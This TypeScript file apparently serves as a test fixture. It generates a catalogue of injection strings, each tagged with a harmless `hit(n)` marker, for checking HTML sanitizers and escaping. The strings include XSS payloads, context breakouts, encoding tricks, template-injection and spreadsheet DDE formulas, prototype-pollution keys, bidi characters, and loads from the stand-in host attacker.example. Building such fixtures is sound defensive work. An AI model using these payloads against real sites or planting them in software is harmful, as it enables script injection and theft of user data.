/** Strings that would run `hit(number)`, break something or look like something else where a program takes them for more than words. */

type Made = (call: string) => string;

// Elements that run something when they are drawn, loaded, opened or pointed at.
const elements: readonly Made[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt src="data:text/javascript,${call}"></sCrIpT>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img/src="x"/onerror="${call}">`,
  (call) => `<IMG SRC=x OnErRoR='${call}' style=display:none>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}//`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><image href=x onerror=${call}></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  (call) => `<svg><a href="javascript:${call}"><text y=20>press</text></a></svg>`,
  (call) => `<body onload=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<video src=x onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}></audio>`,
  (call) => `<details open ontoggle=${call}><summary>more</summary></details>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}></select>`,
  (call) => `<button autofocus onfocus=${call}>press</button>`,
  (call) => `<div tabindex=1 autofocus onfocus=${call}>here</div>`,
  (call) => `<marquee onstart=${call}>words</marquee>`,
  (call) => `<a href="javascript:${call}">more</a>`,
  (call) => `<form action="javascript:${call}"><button autofocus>send</button></form>`,
  (call) => `<div style="animation:x" onanimationstart=${call}></div><style>@keyframes x{}</style>`,
  (call) => `<custom-part onpointerenter=${call} style=position:fixed;inset:0>words</custom-part>`,
];

// What the words may stand in, so that they first have to get out of it.
const places: readonly ((element: string) => string)[] = [
  (element) => element,
  (element) => `">${element}`,
  (element) => `'>${element}`,
  (element) => `--> ${element}`,
  (element) => `]]>${element}`,
  (element) => `</script>${element}`,
  (element) => `</style></title></textarea></noscript></template>${element}`,
  (element) => `<noscript><p title="</noscript>${element}">`,
  (element) => `<math><mtext><table><mglyph><style><!--</style>${element}`,
  (element) => `Kim said so.\n${element}`,
];

// No elements: attributes, addresses, templates, styles, escapes.
const others: readonly Made[] = [
  (call) => `" onmouseover="${call}" x="`,
  (call) => `' onfocus='${call}' autofocus '`,
  (call) => `x onclick=${call}`,
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `blob:null/${call}`,
  (call) => `view-source:javascript:${call}`,
  (call) => `//attacker.example/${call}`,
  (call) => `https://attacker.example/?${call}`,
  (call) => `https://user:pass@attacker.example\\@good.example/${call}`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `<%= ${call} %>`,
  (call) => `#{${call}}`,
  (call) => `[x](javascript:${call})`,
  (call) => `![x](https://attacker.example/x.png "${call}")`,
  (call) => `<https://attacker.example/${call}>`,
  (call) => `background:url(javascript:${call})`,
  (call) => `</style><style>@import 'https://attacker.example/${call}';`,
  (call) => `<link rel=stylesheet href="https://attacker.example/${call}">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<base href="https://attacker.example/${call}/">`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `<scr\u200bipt>${call}</scr\u200bipt>`,
  (call) => `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
  (call) => `<!DOCTYPE x [<!ENTITY e "${call}">]><x>&e;</x>`,
  (call) => `');${call};//`,
  (call) => `";${call};//`,
  (call) => `\u2028${call}\u2029`,
  (call) => `=HYPERLINK("javascript:${call}")`,
  (call) => `@SUM(1)*cmd|'/c ${call}'!A0`,
  (call) => `+${call}`,
  (call) => `__proto__ ${call}`,
  (call) => `constructor.prototype.${call}`,
  (call) => `\u202e${call}\u202c`,
  (call) => `\u2066\u202e${call}`,
];

/** All of them, each with a number of its own: its place in the list. */
export const scriptStrings: readonly string[] = [
  ...places.flatMap((place) =>
    elements.map(
      (element): Made =>
        (call) =>
          place(element(call)),
    ),
  ),
  ...others,
].map((made, index) => made(`hit(${index})`));
